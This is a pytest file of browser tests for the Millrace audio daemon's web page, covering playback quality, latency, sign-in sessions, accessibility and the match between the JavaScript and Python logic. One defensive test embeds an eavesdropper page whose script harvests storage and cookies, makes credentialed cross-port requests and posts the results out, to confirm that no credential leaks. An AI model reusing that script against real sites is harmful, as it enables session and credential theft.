"""The page in real browsers: sound arrives intact, control works, and its drift loop matches Python's."""

from __future__ import annotations

import asyncio
import json
import os
import random
from collections.abc import Awaitable, Callable
from importlib.resources import files
from pathlib import Path

import aiohttp
import numpy as np
import pytest
from aiohttp import web

from millrace.client.blame import Blame
from millrace.clock.drift import DriftEstimator
from millrace.clock.jitter import PROFILES, JitterTarget
from millrace.dsp.measure import frequency_hz, level_dbfs
from millrace.sim.signals import sine

from .browser import Chromium, Page, own_page
from .conftest import MILLRACE, Bus, need, sound_server, wait_for, write_wav
from .firefox import Firefox
from .test_clients import s16

pytestmark = [pytest.mark.real, pytest.mark.xdist_group("heavy")]
SHOTS = os.environ.get("MILLRACE_SHOTS")


Browser = Page | Firefox


def in_browser(chromium: Chromium, bus: Bus, test: Callable[[Page], Awaitable[None]], url: str = "") -> None:
    """Run `test` with the daemon's page open in a browser."""

    async def main() -> None:
        async with Page(chromium) as page:
            await page.open(url or bus.link())
            await test(page)

    asyncio.run(main())


def playing(bus: Bus, tmp_path: Path, seconds: float = 90.0) -> None:
    """Play 997 Hz at −6 dBFS."""
    need("paplay")
    bus.spawn("paplay", str(write_wav(tmp_path / "tone.wav", s16(sine(seconds)))))
    wait_for(lambda: any(s["state"] == "running" for s in bus.guest()["streams"]), what="the tone")


STATS = "millrace.listener && millrace.listener.stats"
ANALYSER = """(() => { const l = millrace.listener; globalThis.ear = new AnalyserNode(l.context, { fftSize: 32768 });
l.node.connect(globalThis.ear); return true; })()"""
HEARD = """(() => { const a = new Float32Array(32768); globalThis.ear.getFloatTimeDomainData(a);
return Array.from(a); })()"""


async def listening(page: Browser) -> None:
    """Click the button, and wait until sound plays."""
    await page.until("document.querySelector('#guest').value")
    await page.click("#listen")
    await page.until(f"({STATS} || {{}}).state === 'playing'")


PITCH_MAX = 2e-3
"""How far the pitch may be off: the speed is corrected by up to 1e-3 (CORRECTION_MAX) for as long as the sound is early
or late, on top of what the browser's clock is off."""


async def judged(page: Browser, seconds: float = 1.5) -> None:
    """Check that the worklet's output is the tone: its frequency, its level, and no break."""
    await page.until(f"({STATS}).locked", 45)
    found = []
    for _ in range(6):
        await asyncio.sleep(seconds)
        sound = np.array(await page.run(HEARD), np.float32)
        t = np.arange(len(sound)) / 48_000
        wave = np.exp(-2j * np.pi * 997.0 * t) * sound
        steps = np.diff(np.unwrap(np.angle([part.mean() for part in np.split(wave, 32)])))
        found.append((frequency_hz(sound, 48_000), level_dbfs(sound), float(np.abs(steps - np.median(steps)).max())))
        hz, level, jump = found[-1]
        # Steps of phase that are all alike mean that nothing is cut, doubled or missing. If the machine stalls, another
        # second is tried.
        if abs(hz / 997.0 - 1.0) < PITCH_MAX and abs(level + 6.02) < 0.2 and jump < 0.1:
            return
    raise AssertionError(f"no second of a whole tone: {found}")


def test_one_click_plays_the_tone_at_target_delay(chromium: Chromium, bus: Bus, tmp_path: Path) -> None:
    playing(bus, tmp_path)

    async def test(page: Page) -> None:
        await listening(page)
        await page.run(ANALYSER)
        await judged(page)
        stats = await page.run(STATS)
        assert stats["first"] is not None and stats["latency"] > 0
        listener = bus.guest()["listeners"][0]
        assert listener["output"] == "browser" and listener["settings"]["codec"] == "opus"
        assert set(listener["ledger_ms"]) == {"path", "network", "codec", "jitter", "period", "late", "device"}
        assert not page.errors

    in_browser(chromium, bus, test)


@pytest.mark.parametrize("codec", ["s16", "f32"])
def test_pcm_is_used_by_browsers_without_opus(chromium: Chromium, bus: Bus, tmp_path: Path, codec: str) -> None:
    playing(bus, tmp_path)

    async def test(page: Page) -> None:
        await page.until("document.querySelector('#guest').value")
        await page.run(f"document.querySelector('#codec').value = {codec!r}")
        await listening(page)
        await page.run(ANALYSER)
        await judged(page)
        assert bus.guest()["listeners"][0]["settings"]["codec"] == codec

    in_browser(chromium, bus, test)


def test_browser_without_opus_uses_webassembly_decoder(chromium: Chromium, bus: Bus, tmp_path: Path) -> None:
    playing(bus, tmp_path)

    async def test(page: Page) -> None:
        await listening(page)
        await page.run(ANALYSER)
        await judged(page)
        # Without the browser's decoder, the page would have asked for PCM if libopus had failed to load.
        assert bus.guest()["listeners"][0]["settings"]["codec"] == "opus"
        assert not page.errors

    in_browser(chromium, bus, test, bus.link().replace("#", "?decoder=wasm#"))


ASKED = """(() => { const context = AudioContext.prototype;
globalThis.asked = 0;
const get = () => { globalThis.asked++; return 0; };
context.getOutputTimestamp = () => { globalThis.asked++; return {}; };
Object.defineProperty(context, 'outputLatency', { get });
return true; })()"""


@pytest.mark.alone
def test_firefox_plays_the_tone_too(bus: Bus, tmp_path: Path) -> None:
    need("firefox-esr")
    playing(bus, tmp_path)
    sound_server(bus, tmp_path / "server")
    env = bus.env | {"PULSE_SERVER": f"unix:{tmp_path}/server/native"}

    async def main() -> None:
        async with Firefox(tmp_path / "profile", env) as page:
            await page.open(bus.link())
            await page.run(ASKED)
            await listening(page)
            await page.run(ANALYSER)
            await judged(page)
            listener = bus.guest()["listeners"][0]
            assert listener["output"] == "browser" and listener["settings"]["codec"] == "opus"
            # Either call can freeze Firefox for good.
            assert await page.run("asked") == 0
            assert not page.errors

    asyncio.run(main())


def test_latency_can_be_changed_for_playing_page_and_program(chromium: Chromium, bus: Bus, tmp_path: Path) -> None:
    playing(bus, tmp_path)
    bus.listener(tmp_path / "other.wav")
    null = bus.spawn(*MILLRACE, "listen", bus.url(), "--to", "null:", "-q")

    def targets() -> list[float]:
        return [one["target_ms"] for one in bus.guest()["listeners"] if one["target_ms"]]

    async def test(page: Page) -> None:
        await listening(page)
        wait_for(lambda: len(targets()) == 2, 15, "both play")
        before = targets()
        for one in bus.guest()["listeners"]:
            bus.cli("set", one["id"], "latency=robust")
        wait_for(lambda: min(targets()) > 40 and targets() != before, 10, "both keep more")
        assert await page.run("document.querySelector('#latency').value") == "robust"
        assert {one["latency_profile"] for one in bus.guest()["listeners"]} == {"robust"}
        one = bus.guest()["listeners"][0]["id"]
        assert "low, normal, robust" in bus.cli("set", one, "latency=quick", check=False).stderr
        assert null.poll() is None

    in_browser(chromium, bus, test)


def test_sound_suspended_by_browser_resumes_at_a_touch_with_its_latency(
    chromium: Chromium, bus: Bus, tmp_path: Path
) -> None:
    playing(bus, tmp_path)

    async def test(page: Page) -> None:
        await listening(page)
        await page.until(f"({STATS}).locked", 45)
        before = (await page.run(STATS))["latency"]
        await page.run("millrace.listener.context.suspend()")
        await page.until("document.querySelector('#heard').textContent.includes('stopped the sound')")
        await page.until("document.querySelector('#left-shown').textContent === 'silent'")
        await asyncio.sleep(6)
        await page.click("#heard")
        await page.until("document.querySelector('#heard').textContent.includes('Hearing')")
        near = f"({STATS}).state === 'playing' && Math.abs(({STATS}).latency - {before}) < 60e6"
        # A latency that is wrong by seconds would last for a minute; a stall of a busy machine passes sooner.
        await page.until(near, 15)
        await page.run(ANALYSER)
        await judged(page)
        await page.until(near, 10)
        assert not page.errors

    in_browser(chromium, bus, test)


def test_quality_changes_during_playback_without_interruption(chromium: Chromium, bus: Bus, tmp_path: Path) -> None:
    playing(bus, tmp_path)

    async def test(page: Page) -> None:
        await listening(page)
        await page.run(ANALYSER)
        await asyncio.sleep(2)
        await page.run(
            "(() => { const r = document.querySelector('#bitrate'); r.value = 32;"
            " r.dispatchEvent(new Event('change')); })()"
        )
        await asyncio.to_thread(wait_for, lambda: bus.guest()["listeners"][0]["settings"]["bitrate"] == 32_000)
        bus.cli("set", bus.guest()["listeners"][0]["id"], "codec=s16")
        await asyncio.sleep(1)
        await judged(page)

    in_browser(chromium, bus, test)


@pytest.mark.beside
def test_page_plays_again_when_daemon_returns(chromium: Chromium, bus: Bus, tmp_path: Path) -> None:
    async def test(page: Page) -> None:
        await listening(page)
        assert bus.daemon is not None
        bus.daemon.kill()
        bus.daemon.wait()
        bus.start()
        playing(bus, tmp_path)
        await page.until(f"({STATS}).state === 'playing'", 20)
        await page.until(
            "millrace.state.guests.length && document.querySelector('#status').textContent === 'connected'"
        )

    playing(bus, tmp_path)
    in_browser(chromium, bus, test)


EMPTY = """[...document.querySelectorAll("main section")].filter((card) => card.offsetHeight).map((card) =>
[card.querySelector("h2").textContent, card.getBoundingClientRect().bottom
 - Math.max(...[...card.children].map((child) => child.getBoundingClientRect().bottom))])"""


@pytest.mark.beside
def test_cards_are_no_larger_than_their_content(chromium: Chromium, bus: Bus) -> None:
    async def test(page: Page) -> None:
        await page.until("document.querySelector('#listeners').textContent")
        for width in (390, 900, 1000, 1280, 1700):
            await page.size(width, 800)
            cards = dict(await page.run(EMPTY))
            assert len(cards) >= 5 and max(cards.values()) < 40, (width, cards)

    in_browser(chromium, bus, test)


@pytest.mark.beside
def test_list_without_incidents_shows_no_numbers(chromium: Chromium, bus: Bus) -> None:
    none = """import("/page/objects.js").then(({ Objects: { prototype } }) => { const all = prototype.of;
prototype.of = function (kind, guest) { return kind === "incident" ? [] : all.call(this, kind, guest); };
return true; })"""
    marks = "[...document.querySelectorAll('#incidents li')].map((li) => getComputedStyle(li).listStyleType)"

    async def test(page: Page) -> None:
        await page.until("document.querySelector('#guest').value")
        await page.run(none)
        await page.click("#mix button")  # Any change redraws the page.
        await page.until("document.querySelector('#incidents').textContent === 'None.'")
        assert await page.run(marks) == ["none"]

    in_browser(chromium, bus, test)


@pytest.mark.beside
def test_volumes_mutes_and_incidents_are_on_the_page(chromium: Chromium, bus: Bus, tmp_path: Path) -> None:
    playing(bus, tmp_path)

    async def test(page: Page) -> None:
        await page.until("document.querySelectorAll('#mix .thing').length >= 3")
        await page.click("#mix .thing button")
        await asyncio.to_thread(wait_for, lambda: bus.guest()["streams"][0]["mute"])
        await page.until("document.querySelector('#mix .thing button').textContent === 'Muted'")
        bus.cli("set", "sink/default", "volume=50%")
        await page.until("[...document.querySelectorAll('#mix .thing')].some(t => t.textContent.includes('50 %'))")
        bus.cli("sink", "add", "music")
        await page.until("document.querySelectorAll('#graph rect').length >= 4")
        bus.cli("prompt", "microphone")
        bus.spawn("parec", "-d", "microphone", "--raw", str(tmp_path / "raw"))
        await page.until("document.querySelector('#requests').textContent.includes('pacat')")
        await page.click("#requests button")
        await asyncio.to_thread(wait_for, lambda: bus.guest()["recorders"])
        assert not page.errors

    in_browser(chromium, bus, test)


ASKED_FOR = "performance.getEntriesByType('resource').map(e => e.name).filter(n => n.includes('/api/')).join(' ')"


@pytest.mark.beside
def test_changes_are_shown_without_requesting_the_state_again(chromium: Chromium, bus: Bus, tmp_path: Path) -> None:
    playing(bus, tmp_path)

    async def test(page: Page) -> None:
        mix = "[...document.querySelectorAll('#mix .thing')].map(t => t.textContent).join()"
        await page.until(f"{mix}.includes('RMS -9 dB') && !document.querySelector('#rights').hidden")
        asked = await page.run(ASKED_FOR)
        assert asked.count("/state") == 1 and asked.count("/incidents") == 1, asked
        for percent in (50, 70):
            bus.cli("set", "sink/default", f"volume={percent}%")
            await page.until(f"{mix}.includes('{percent} %')")
        # Levels are measurements, not changes of an object, but arrive too: 70 % is 9.3 dB less.
        await page.until(f"{mix}.includes('RMS -18 dB')")
        bus.cli("token", "new", "--may", "see", "--name", "one that is new")
        await page.until("document.querySelector('#tokens').textContent.includes('one that is new')")
        bus.cli("revoke", "monitor", "--program", "/bin/ear")
        await page.until("document.querySelector('#grants').textContent.includes('/bin/ear may not')")
        bus.cli("token", "revoke", "token/1")
        await page.until("!document.querySelector('#tokens').textContent.includes('one that is new')")
        bus.cli("guest", "add", "alice")
        await page.until("[...document.querySelector('#guest').options].length === 2")
        assert await page.run(ASKED_FOR) == asked
        await shot(page, "deltas")
        await page.click("#mix .thing button")
        await page.until("document.querySelector('#mix .thing button').textContent === 'Muted'")
        assert (await page.run(ASKED_FOR)).removeprefix(asked).split("/")[-1] == "set"
        assert not page.errors

    in_browser(chromium, bus, test)


SHOWN_AS_WRONG = (
    "[...document.querySelectorAll('.bad')].filter(e => e.checkVisibility()).map(e => e.textContent).join()"
)


async def shot(page: Page, name: str) -> None:
    """Take a screenshot, if SHOTS names a folder."""
    if SHOTS:
        await page.screenshot(Path(SHOTS) / f"{name}.png")


OWN_STATUS = """import('/page/session.js').then(({ headers, kept }) =>
fetch('/api/v1/state', { headers: headers(kept()) })).then(a => a.status)"""


@pytest.mark.beside
def test_page_without_rights_asks_for_a_token_and_session_ends_with_it(bus: Bus, tmp_path: Path) -> None:
    """The page by its plain address, under a host name that stands for another machine."""
    playing(bus, tmp_path)
    port = bus.listen.rpartition(":")[2]
    secret = bus.cli("token", "new", "--guest", "default", "--may", "hear").stdout.strip()

    async def test(page: Page) -> None:
        await page.until("!document.querySelector('#login').hidden")
        seen = (
            "[...document.querySelectorAll('button')].filter(b => b.checkVisibility()).map(b => b.textContent).join()"
        )
        assert await page.run(seen) == "Sign in", "controls without a function are hidden"
        assert await page.run("document.querySelector('#login').textContent.includes('millrace page')")
        assert await page.run(SHOWN_AS_WRONG) == "", "a first visit shows no error"
        await shot(page, "first-visit")
        for given, right in (("wrong", False), (secret, True)):
            await page.run(f"document.querySelector('#token').value = {given!r}")
            await page.run("document.querySelector('#login').requestSubmit()")
            await page.until("document.querySelector('#token').value === ''")
            await asyncio.sleep(0.5)
            assert await page.run("document.querySelector('#login').hidden") is right
            assert bool(await page.run(SHOWN_AS_WRONG)) is not right
            if not right:
                assert "not valid" in await page.run("document.querySelector('#wrong').textContent")
                assert await page.run("document.activeElement.id + document.activeElement.ariaInvalid") == "tokentrue"
                await shot(page, "wrong-token")
        assert "Listen" in await page.run(seen)
        assert secret not in await page.run("location.href + document.documentElement.outerHTML")
        assert secret not in await page.run("JSON.stringify({ ...localStorage, ...sessionStorage })")
        assert await page.run("document.cookie") == ""
        assert await page.run("document.querySelector('#rights').hidden") is True
        assert await page.run(OWN_STATUS) == 200
        assert await page.run("fetch('/api/v1/state').then(a => a.status)") == 401, (
            "no credential is sent automatically"
        )
        bus.cli("token", "revoke", "token/1")
        assert await page.run(OWN_STATUS) == 401
        for again in (False, True):
            # A stored session that has ended leads back to the sign-in form.
            if again:
                await page.open("about:blank")
                await page.open(f"http://millrace.test:{port}/")
            await page.until("!document.querySelector('#login').hidden")
            assert await page.run(seen) == "Sign in"
            assert (
                await page.run("document.querySelector('#why').textContent") == "Your session has ended. Sign in again."
            )
            assert await page.run(SHOWN_AS_WRONG) == ""

    need("chromium")

    async def main() -> None:
        flag = f"--host-resolver-rules=MAP millrace.test 127.0.0.1:{port}"
        async with own_page(tmp_path / "profile", flag) as page:
            await page.open(f"http://millrace.test:{port}/#in=mr_used")
            await page.until("document.querySelector('#why').textContent.includes('This link has already been used')")
            # The cookie that Millrace 0.1 used instead.
            await page.run("document.cookie = 'millrace-0123456789=b3duZXI.a.b'")
            await page.open("about:blank")
            await page.open(f"http://millrace.test:{port}/")
            await page.run("document.cookie = 'millrace-0123456789=; max-age=0'")
            await test(page)

    asyncio.run(main())


SHOWN = "document.querySelector('#guest').value && document.querySelector('#login').hidden"


@pytest.mark.beside
def test_browser_stays_signed_in_across_reload_and_tabs_until_signed_out(chromium: Chromium, bus: Bus) -> None:
    async def test(page: Page) -> None:
        await page.until(SHOWN)
        assert "#" not in await page.run("location.href"), "the link is removed from the history"
        await page.open("about:blank")
        await page.open(f"http://{bus.listen}/")
        await page.until(SHOWN)
        await page.run("void (globalThis.second = window.open(location.href))")
        await page.until("second.document.readyState === 'complete' && second.document.querySelector('#guest')?.value")
        session = await page.run("import('/page/session.js').then(s => s.kept())")
        await page.run("second.document.querySelector('#leave').click()")
        for where in ("document", "second.document"):
            await page.until(f"!{where}.querySelector('#login').hidden")
            await page.until(f"{where}.querySelector('#status').textContent === 'signed out'")
        assert await page.run("localStorage.length") == 0
        # A copy of the session is worthless too.
        status = f"fetch('/api/v1/state', {{ headers: {{ Authorization: 'Bearer {session}' }} }}).then(a => a.status)"
        await page.until(f"{status}.then(s => s === 401)")
        # Signing in again in one tab signs the other in.
        link = bus.link().partition("#in=")[2]
        await page.run(f"second.document.querySelector('#token').value = {link!r}")
        await page.run("second.document.querySelector('#login').requestSubmit()")
        await page.until(SHOWN)
        # A guest that has been removed is not requested again and again.
        bus.cli("guest", "add", "alice")
        await page.until("[...document.querySelector('#guest').options].some(o => o.value === 'alice')")
        await page.run(
            "(() => { const g = document.querySelector('#guest'); g.value = 'alice';"
            " g.dispatchEvent(new Event('change')); })()"
        )
        await page.until("millrace.state.guests.map(g => g.name).join() === 'alice'")
        bus.cli("guest", "remove", "alice")
        await page.until(f"{SHOWN} && document.querySelector('#guest').value === 'default'")
        assert await page.run("document.querySelector('#status').textContent") == "connected"

    in_browser(chromium, bus, test)


EAVESDROPPER = """<!doctype html><img src="/picture"><script>
const away = 'HERE', told = (what) => fetch('/kept', { method: 'POST', body: JSON.stringify(what) });
told({ ...localStorage, ...sessionStorage, cookie: document.cookie });
for (const path of ['/', '/api/v1/state', '/session'])
  fetch(away + path, { credentials: 'include' }).then(a => a.text()).then(text => told({ text }), () => {});
const line = new WebSocket(away.replace('http', 'ws') + '/api/v1/events');
line.onmessage = ({ data }) => told({ text: data });
setTimeout(() => told({}).then(() => { document.title = 'done'; }), 1000);
</script>"""


@pytest.mark.beside
def test_page_on_another_port_gets_no_credential(chromium: Chromium, bus: Bus) -> None:
    """Browsers send cookies to every port of a host, and another user of this machine may listen on one of them."""
    need("chromium")
    got: list[dict[str, str]] = []
    found: list[str] = []

    async def main() -> None:
        async def serve(request: web.Request) -> web.Response:
            got.append(dict(request.headers))
            if request.method == "POST":
                found.extend((await request.json()).values())
            page = EAVESDROPPER.replace("HERE", f"http://{bus.listen}")
            return web.Response(text=page, content_type="text/html")

        app = web.Application()
        app.router.add_route("*", "/{path:.*}", serve)
        runner = web.AppRunner(app)
        await runner.setup()
        site = web.TCPSite(runner, "127.0.0.1", 0)
        await site.start()
        async with Page(chromium) as page:
            await page.open(bus.link())
            await page.until(SHOWN)
            await page.open(f"http://127.0.0.1:{runner.addresses[0][1]}/")
            await page.until("document.title === 'done'")
            await page.open(f"http://{bus.listen}/")
            await page.until(SHOWN)
        await runner.cleanup()
        assert len(got) >= 4 and not any("guests" in text for text in found), (got, found)
        dropped = ("host", "connection", "content-length", "origin", "referer", "accept-encoding")
        tries = [
            {name: value for name, value in headers.items() if name.lower() not in dropped and name[:4] != "Sec-"}
            for headers in got
        ] + [{"Authorization": f"Bearer {text}"} for text in found if text]
        async with aiohttp.ClientSession() as http:
            for headers in tries:
                for path in ("/api/v1/state", "/api/v1/events", "/metrics"):
                    async with http.get(f"http://{bus.listen}{path}", headers=headers) as answer:
                        assert answer.status in (401, 429), (path, headers)

    asyncio.run(main())


GRAPH_FITS = """(() => {
  const box = document.getElementById("graph"), found = [...box.querySelectorAll("g")];
  return found.length >= 4 && box.scrollWidth <= box.clientWidth && found.every((one) => {
    const edge = one.querySelector("rect").getBoundingClientRect();
    return [...one.querySelectorAll("text")].every((text) => {
      const ink = text.getBoundingClientRect();
      return ink.height >= 12 && ink.right <= edge.right && ink.left >= edge.left;
    });
  });
})()"""
"""Checks that the whole graph is visible, in legible letters, and that each label fits its box."""


@pytest.mark.beside
def test_page_is_accessible_small_and_fits_a_phone(chromium: Chromium, bus: Bus, tmp_path: Path) -> None:
    playing(bus, tmp_path)
    axe = (files("axe_core_python") / "axe.min.js").read_text()

    async def test(page: Page) -> None:
        await listening(page)
        # A picture for the manual should show the page after it has run for a while.
        await asyncio.sleep(40 if SHOTS else 1.5)
        await page.send("Page.setBypassCSP", enabled=True)
        await page.run(axe + "; true")
        for width, height, dark in (
            (1280, 900, False), (390, 844, True), (390, 844, False), (360, 740, False), (1280, 900, True)
        ):  # fmt: skip
            await page.size(width, height, dark)
            await asyncio.sleep(0.3)
            await page.until(GRAPH_FITS)
            found = json.loads(
                await page.run(
                    "axe.run().then(r => JSON.stringify(r.violations.map(v => [v.id, v.nodes.map(n => n.html)])))"
                )
            )
            assert not found, (width, dark, found)
            assert await page.run("document.documentElement.scrollWidth <= innerWidth"), "nothing overflows"
            if width != 360:
                await shot(page, f"page-{'wide' if width > 600 else 'narrow'}{'-dark' * dark}")
        size = await page.run(
            "performance.getEntriesByType('resource').concat(performance.getEntriesByType('navigation'))"
            ".filter(e => !e.name.includes('/api/')).reduce((s, e) => s + e.encodedBodySize, 0)"
        )
        assert 5_000 < size < 200_000

    in_browser(chromium, bus, test)


def test_microphone_is_heard_in_guest_while_something_records(bus: Bus, tmp_path: Path) -> None:
    need("chromium", "parec")
    tone = write_wav(tmp_path / "voice.wav", s16(sine(5.0)))
    raw = tmp_path / "raw"
    flags = (
        "--use-fake-ui-for-media-stream",
        "--use-fake-device-for-media-stream",
        f"--use-file-for-fake-audio-capture={tone}",
    )

    async def main() -> None:
        async with own_page(tmp_path / "profile", *flags) as page:
            await page.open(bus.link())
            await page.until("document.querySelector('#guest').value")
            # The browser's noise suppression would remove a steady tone.
            await page.run(
                "(() => { const real = navigator.mediaDevices.getUserMedia.bind(navigator.mediaDevices);"
                " navigator.mediaDevices.getUserMedia = () => real({ audio: { echoCancellation: false,"
                " noiseSuppression: false, autoGainControl: false } });"
                " document.querySelector('#microphone').checked = true; })()"
            )
            await page.click("#listen")
            await page.until("document.querySelector('#status').textContent.includes('no program in the guest')")
            with raw.open("wb") as out:
                command = ("parec", "--raw", "-d", "microphone", "--format=s16le", "--rate=48000", "--channels=1")
                recorder = bus.spawn(*command, stdout=out)
            await page.until(
                "document.querySelector('#status').textContent.includes('a program in the guest is recording')"
            )
            await asyncio.sleep(5)
            recorder.terminate()
            await asyncio.to_thread(recorder.wait, 10)
            await page.until("document.querySelector('#status').textContent.includes('no program in the guest')")
            assert not page.errors

    asyncio.run(main())
    sound = np.frombuffer(raw.read_bytes(), "<i2").astype(np.float32) / 32768
    parts = [sound[at : at + 24_000] for at in range(48_000, len(sound) - 24_000, 24_000)]
    found = [(frequency_hz(part, 48_000), level_dbfs(part)) for part in parts]
    assert any(abs(hz - 997.0) < 2.0 and level > -12 for hz, level in found), found


# -- the same results as in Python -------------------------------------------------------------------------


def trace(seed: int, seconds: float, ppm: float, jitter_ms: float) -> list[tuple[int, int]]:
    """Times of packets: captured every 20 ms by one clock, and arrived with exponential jitter by another."""
    dice = random.Random(seed)
    out = []
    for n in range(round(seconds * 50)):
        captured = n * 20_000_000 + 5_000_000_000_000
        came = captured * (1 - ppm * 1e-6) + 1e6 + (dice.expovariate(1 / (jitter_ms * 1e6)) if jitter_ms else 0.0)
        out.append((captured, round(came)))
    return out


def _held(seconds: float) -> list[int]:
    """The earliest arrivals on a line that holds packets for 8 s from second 30 on and then catches up fivefold."""
    begin, first = 5_000_000_000_000, 30_000_000_000
    captured = [n * 20_000_000 for n in range(round(seconds * 50))]
    return [begin + (first + 8_000_000_000 + (at - first) // 5 if at > first else 0) for at in captured]


@pytest.mark.beside
def test_estimators_match_pythons(chromium: Chromium, bus: Bus) -> None:
    stood = [(x, y + (6_000_000_000 if n > 2_000 else 0)) for n, (x, y) in enumerate(trace(4, 60, 100, 1.0))]
    held = [(x, max(y, trace_y)) for (x, y), trace_y in zip(trace(5, 60, 0, 1.0), _held(60), strict=True)]
    jumped = [(x, y + (30_000_000 if n > 100 else 0)) for n, (x, y) in enumerate(trace(6, 30, 50, 0.2))]
    drained = [(x, y - 1_000_000 * min(max(n - 600, 0), 100)) for n, (x, y) in enumerate(trace(7, 40, 50, 0.2))]
    traces = [trace(1, 90, 300, 3.0), trace(2, 60, -150, 0.0), trace(3, 60, 0, 10.0), stood, held, jumped, drained]

    async def test(page: Page) -> None:
        for pairs in traces:
            ours, jitter = DriftEstimator(), JitterTarget(PROFILES["normal"])
            said = []
            for n, (x, y) in enumerate(pairs):
                late = ours.observe(x, y)
                jitter.add(late)
                if n % 50 == 49:
                    jitter.refresh(1.0)
                    said.append([late, ours.rate * 1e6, jitter.target_delay_ns, ours.state.value])
            theirs = await page.run(
                "import('/page/clock.js').then(({ DriftEstimator, JitterTarget, PROFILES }) => {"
                " const d = new DriftEstimator(), j = new JitterTarget(PROFILES.normal), out = [];"
                f" {json.dumps(pairs)}.forEach(([x, y], n) => {{ const late = d.observe(x, y); j.add(late);"
                " if (n % 50 === 49) { j.refresh(1); out.push([late, d.rate * 1e6, j.targetDelay, d.state]); } });"
                " return out; })"
            )
            assert len(said) == len(theirs)
            for mine, its in zip(said, theirs, strict=True):
                assert mine[3] == its[3]
                assert np.allclose(mine[:3], its[:3], rtol=1e-6, atol=2.0), (mine, its)

    in_browser(chromium, bus, test)


def moments(seed: int) -> list[tuple[str, int, int]]:
    """Ten seconds of a listener: ticks, pulls, packets and gaps, with stalls of each, and losses."""
    dice = random.Random(seed)
    out, sequence = [], 0
    held: dict[str, int] = {}
    for now in range(5, 10_000, 5):
        if dice.random() < 0.01:
            held[dice.choice(["tick", "pull", "packet"])] = now + dice.choice([30, 80, 300])
        at = now * 1_000_000 + dice.randrange(100_000)
        for what, every in (("tick", 50), ("pull", 5), ("packet", 20)):
            if now % every == 0 and held.get(what, 0) <= now:
                sequence += what == "packet" and (1 if dice.random() > 0.02 else dice.randrange(2, 5))
                out.append((what, at, sequence))
                if what == "packet" and dice.random() < 0.1:
                    sequence += 1
                    out.append(("follows", at + 1000, sequence))
        if dice.random() < 0.02:
            out.append((dice.choice(["hole", "lost", "silence"]), at, dice.randrange(1, 4)))
    return out


def verdicts(trace: list[tuple[str, int, int]]) -> list[list[object]]:
    """The verdicts of Python's listener."""
    blame, out = Blame(50_000_000), []
    for what, at, number in trace:
        found = None
        if what == "tick":
            blame.ticked(at)
        elif what == "pull":
            blame.pulled(at, 5_000_000)
        elif what == "packet":
            blame.arrived(at, 20_000_000, number)
        elif what == "follows":
            blame.arrived(at, 20_000_000, number, True)
        elif what == "silence":
            blame.silence()
        else:
            found = blame.hole(at) if what == "hole" else blame.lost(at, number)
        if found is not None:
            out.append([found.stage, found.cause, found.at_ns, found.evidence, blame.unsure(at)])
    return out


BLAME = """import('/page/blame.js').then(({ Blame }) => {
  const blame = new Blame(50e6), out = [];
  for (const [what, at, number] of TRACE) {
    let found = null;
    if (what === "tick") blame.ticked(at);
    else if (what === "pull") blame.pulled(at, 5e6);
    else if (what === "packet") blame.arrived(at, 20e6, number);
    else if (what === "follows") blame.arrived(at, 20e6, number, true);
    else if (what === "silence") blame.silence();
    else found = what === "hole" ? blame.hole(at) : blame.lost(at, number);
    if (found) out.push([found.stage, found.cause, found.at, found.evidence, blame.unsure(at)]);
  }
  return out;
})"""


@pytest.mark.beside
def test_page_blames_the_same_causes_as_python(chromium: Chromium, bus: Bus) -> None:
    async def test(page: Page) -> None:
        causes = set()
        for seed in range(8):
            trace = moments(seed)
            ours, theirs = verdicts(trace), await page.run(BLAME.replace("TRACE", json.dumps(trace)))
            assert [one[:2] + one[3:] for one in ours] == [one[:2] + one[3:] for one in theirs]
            assert np.allclose([one[2] for one in ours], [one[2] for one in theirs], atol=2.0)
            causes |= {one[1] for one in ours}
        assert causes == {"not run", "late", "packets lost", "stalled"}

    in_browser(chromium, bus, test)


SIMULATION = """import('/page/clock.js').then(async ({ RateController, PROFILES }) => {
  const { AdaptiveLink, PLAYING } = await import('/page/link.js');
  const pairs = PAIRS, ppm = 300, rate = 48000, quantum = 128;
  const less = (n) => { voice.frames -= n; return n; };
  const voice = { frames: 0, get fill() { return this.frames; }, get ready() { return Math.max(0, this.frames - 17); },
    accelerate: less, skip: less, expand(n) { this.frames += n; return n; }, conceal(n) { this.frames += n; },
    drop(n) { return less(Math.max(0, Math.min(n, this.frames))); } };
  const pace = new RateController(rate, PROFILES.normal), link = new AdaptiveLink(rate, rate, pace, voice);
  const errors = [], ratios = [];
  let at = 0, clock = 0, card = 0;
  const begin = pairs[0][1];
  for (let now = begin; at < pairs.length; card += quantum) {
    now = begin + card * 1e9 / rate * (1 - ppm * 1e-6);
    while (at < pairs.length && pairs[at][1] <= now) {
      const [media, came] = pairs[at++];
      pace.arrived(media, 20e6, came);
      const missing = link.missing(media);
      if (missing) voice.conceal(missing - link.replaced(missing));
      voice.frames += 960; link.written(media, 960);
    }
    if (now - clock > 20e6) { clock = now; pace.observed(card * 1e9 / rate, now); }
    if (link.pull(quantum, card * 1e9 / rate, now)) voice.frames -= (quantum - link.lead) * link.step;
    if (now - begin > 30e9 && link.state === PLAYING) { errors.push(link.late); ratios.push((pace.ratio - 1) * 1e6); }
  }
  const rms = (list, mean) => Math.sqrt(list.reduce((s, v) => s + (v - mean) ** 2, 0) / list.length);
  const mean = ratios.reduce((s, v) => s + v, 0) / ratios.length;
  const noise_ppm = rms(ratios, mean), targetDelay = pace.targetDelay;
  return { error_us: rms(errors, 0) / 1e3, ratio_ppm: mean, noise_ppm, ...link.tally, targetDelay };
})"""


@pytest.mark.beside
def test_javascript_loop_holds_latency_as_pythons_does(chromium: Chromium, bus: Bus) -> None:
    """Ten minutes of packets with 3 ms of jitter, played by a card that is 300 ppm fast, in virtual time."""
    pairs = trace(7, 600, 0, 3.0)

    async def test(page: Page) -> None:
        found = await page.run(SIMULATION.replace("PAIRS", json.dumps(pairs)))
        assert found["underruns"] == 0 and found["error_us"] < 100 and found["noise_ppm"] < 10, found
        assert abs(found["ratio_ppm"] + 300) < 10 and found["targetDelay"] < 60e6, found

    in_browser(chromium, bus, test)
